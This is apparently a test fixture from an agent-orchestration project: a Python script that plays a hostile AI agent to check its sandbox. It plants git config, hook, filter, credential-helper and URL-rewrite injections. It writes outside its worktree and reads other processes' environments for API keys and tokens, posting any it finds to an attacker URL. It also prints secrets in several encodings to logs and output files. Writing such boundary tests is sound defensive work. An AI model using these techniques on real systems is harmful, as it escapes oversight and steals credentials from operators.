"""An agent that tries every trick of issue #16 from inside its checkout, then ends as if it succeeded.

Run as the agent of a task (local runner or a Job); task 1 of a service is
hostile, any other task of it is benign, so a test can check that the next run
of the same service is still prepared. Only the standard library: it runs under
whichever interpreter the agent gets, as whichever user.

    hostile_agent.py --marker PATH --attacker URL [--outside PATH ...] [--huge BYTES]

Every command it plants for git creates `--marker` (a path the agent itself
cannot or does not write): the file appearing means git in the worker obeyed
the agent. Every URL rewrite points at `--attacker`, which records what
reaches it. It never runs git itself after planting (its own git would obey
its own plants and create the marker). What it did is written to
`hostile-report.json` in the checkout and printed as one `HOSTILE {...}` line.
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import sys
import urllib.parse
import urllib.request
from pathlib import Path

# Names whose values another process's environment would give away.
WANTED = (
    "ANTHROPIC_API_KEY",
    "GITHUB_TOKEN",
    "GITHUB_WEBHOOK_SECRET",
    "ORCHESTRATOR_API_TOKENS",
    "ORCHESTRATOR_REDIS_URL",
    "ORCHESTRATOR_SESSION_SECRET",
    "ORCHESTRATOR_API_TOKEN",
)
HOOKS = (
    "pre-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-push",
    "post-checkout",
    "post-merge",
    "reference-transaction",
    "post-index-change",
    "pre-auto-gc",
    "post-rewrite",
    "fsmonitor-watchman",
    "push-to-checkout",
)


def attempt(report: dict, name: str, action) -> None:
    """Do one trick; record `done` or why it was refused (a refusal is the boundary holding early)."""
    try:
        action()
        report["tricks"][name] = "done"
    except OSError as exc:
        report["tricks"][name] = f"refused: {exc.strerror or exc}"


def append(path: Path, text: str) -> None:
    with open(path, "a") as handle:
        handle.write(text)


def write_script(path: Path, body: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\n{body}\n")
    path.chmod(0o755)


def git_dirs(checkout: Path) -> tuple[Path, Path]:
    """(the worktree's admin directory, the clone's common .git), read from the files git itself reads."""
    pointer = (checkout / ".git").read_text().strip()
    admin = (checkout / pointer.split(":", 1)[1].strip()).resolve()
    common = (admin / (admin / "commondir").read_text().strip()).resolve()
    return admin, common


def plant(report: dict, checkout: Path, touch: str, attacker: str) -> None:
    admin, common = git_dirs(checkout)
    report["git"] = {"admin": str(admin), "common": str(common)}
    origin = "https://git.example.test/"
    config = "".join(
        [
            "[extensions]\n\tworktreeConfig = true\n",
            f'[core]\n\tfsmonitor = "{touch}; false"\n\tsshCommand = "{touch}; false"\n',
            f"\thooksPath = {checkout / '.hooks'}\n\tpager = {touch}; cat\n\teditor = {touch}\n",
            f"[include]\n\tpath = {checkout / '.evil.gitconfig'}\n",
            f'[includeIf "gitdir:/"]\n\tpath = {checkout / ".evil.gitconfig"}\n',
            f'[url "{attacker}"]\n\tinsteadOf = {origin}\n\tpushInsteadOf = {origin}\n',
            f'[URL "{attacker}"]\n\tinsteadOf = https://github.com/\n',
            f'[filter "pwn"]\n\tclean = {touch}; cat\n\tsmudge = {touch}; cat\n\trequired = true\n',
            f'[credential]\n\thelper = "!{touch}; echo password=stolen"\n',
            f'[diff "pwn"]\n\ttextconv = {touch}; cat\n',
            f"[alias]\n\tcommit = !{touch}\n\tpush = !{touch}\n",
            f"[gc]\n\tauto = 1\n[core]\n\tgitProxy = {touch}\n",
        ]
    )
    evil = checkout / ".evil.gitconfig"
    attempt(report, "include.path file", lambda: evil.write_text(config))
    attempt(report, "common config", lambda: append(common / "config", config))
    attempt(report, "config.worktree (common)", lambda: (common / "config.worktree").write_text(config))
    attempt(report, "config.worktree (worktree)", lambda: (admin / "config.worktree").write_text(config))
    attempt(
        report,
        "info/attributes filter",
        lambda: (
            (common / "info").mkdir(exist_ok=True),
            (common / "info" / "attributes").write_text("* filter=pwn diff=pwn\n"),
        ),
    )
    attempt(
        report, ".gitattributes filter", lambda: (checkout / ".gitattributes").write_text("* filter=pwn diff=pwn\n")
    )
    borrowed = checkout / ".borrowed-objects"
    attempt(
        report,
        "objects/info/alternates",
        lambda: (
            borrowed.mkdir(exist_ok=True),
            (common / "objects" / "info").mkdir(exist_ok=True),
            (common / "objects" / "info" / "alternates").write_text(f"{borrowed}\n/\n"),
        ),
    )
    attempt(report, "hooks in .git/hooks", lambda: [write_script(common / "hooks" / h, touch) for h in HOOKS])
    attempt(report, "core.hooksPath dir", lambda: [write_script(checkout / ".hooks" / h, touch) for h in HOOKS])
    attempt(report, "commondir", lambda: (admin / "commondir").write_text(f"{checkout / '.fake-common'}\n"))
    attempt(
        report, "worktree .git pointer", lambda: (checkout / ".git").write_text(f"gitdir: {checkout / '.fake-git'}\n")
    )
    fake = checkout / ".fake-git"
    attempt(
        report,
        "fake gitdir",
        lambda: (
            fake.mkdir(exist_ok=True),
            (fake / "config").write_text(config),
            (fake / "HEAD").write_text("ref: refs/heads/main\n"),
        ),
    )
    attempt(
        report,
        "grafts",
        lambda: ((common / "info").mkdir(exist_ok=True), (common / "info" / "grafts").write_text("0" * 40 + "\n")),
    )


def steal_environ(report: dict) -> dict[str, str]:
    """Every secret-looking value readable in another process's environment."""
    stolen: dict[str, str] = {}
    readable: list[int] = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            data = (entry / "environ").read_bytes()
        except OSError:
            continue
        readable.append(int(entry.name))
        for item in data.split(b"\0"):
            name, _, value = item.decode(errors="replace").partition("=")
            if name in WANTED and value and os.environ.get(name) != value:
                stolen[f"{name}@{entry.name}"] = value
    report["environ_readable"] = len(readable)
    report["stolen"] = sorted(stolen)
    return stolen


def encodings(value: str) -> list[str]:
    raw = value.encode()
    half = len(value) // 2
    return [
        value,
        base64.b64encode(raw).decode(),
        base64.urlsafe_b64encode(raw).decode(),
        raw.hex(),
        urllib.parse.quote(value, safe=""),
        f"{value[:half]}\n{value[half:]}",
    ]


def leak(values: list[str]) -> None:
    for value in values:
        for form in encodings(value):
            print(f"leak: {form}", flush=True)


def hostile(args: argparse.Namespace) -> int:
    checkout = Path.cwd()
    touch = f"touch {args.marker}"
    report: dict = {"tricks": {}, "uid": os.getuid()}
    (checkout / "hostile.txt").write_text("a change, so that delivery commits and pushes\n")
    plant(report, checkout, touch, args.attacker)
    for path in args.outside:  # outside the worktree: another task's, the service's, the stack's
        attempt(report, f"write {path}", lambda p=path: Path(p).write_text("escaped\n"))
    stolen = steal_environ(report)
    if stolen:  # a boundary broke: send what was taken where the attacker collects it
        body = json.dumps(stolen).encode()
        try:
            urllib.request.urlopen(urllib.request.Request(args.attacker + "stolen", data=body), timeout=5)
        except OSError:
            pass
    mine = [os.environ[name] for name in ("ANTHROPIC_API_KEY", "GITHUB_TOKEN") if os.environ.get(name)]
    report["own_secrets"] = len(mine)
    output_dir = Path(os.environ.get("ORCHESTRATOR_OUTPUT_DIR", checkout / ".orchestrator-output"))
    output_dir.mkdir(parents=True, exist_ok=True)
    outputs = {
        "summary": " ".join(base64.b64encode(v.encode()).decode() for v in [*mine, *stolen.values()]),
        "hex": " ".join(v.encode().hex() for v in mine),
        "big": "x" * 200_000,
    }
    attempt(report, "outputs.json", lambda: (output_dir / "outputs.json").write_text(json.dumps(outputs)))
    (checkout / "hostile-report.json").write_text(json.dumps(report, indent=1))
    print("HOSTILE " + json.dumps(report), flush=True)
    leak([*mine, *stolen.values()])
    line = "y" * 1023 + "\n"
    for _ in range(args.huge // 1024):
        sys.stdout.write(line)
    sys.stdout.flush()
    leak([*mine, *stolen.values()])  # the last lines are what a run record keeps
    print("hostile agent done", flush=True)
    return 0


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--marker", required=True)
    parser.add_argument("--attacker", required=True)
    parser.add_argument("--outside", action="append", default=[])
    parser.add_argument("--huge", type=int, default=0)
    args = parser.parse_args()
    if os.environ.get("ORCHESTRATOR_TASK_ID") != "1":
        Path("benign.txt").write_text("the next run of the service\n")
        print("benign agent done", flush=True)
        return 0
    return hostile(args)


if __name__ == "__main__":
    sys.exit(main())
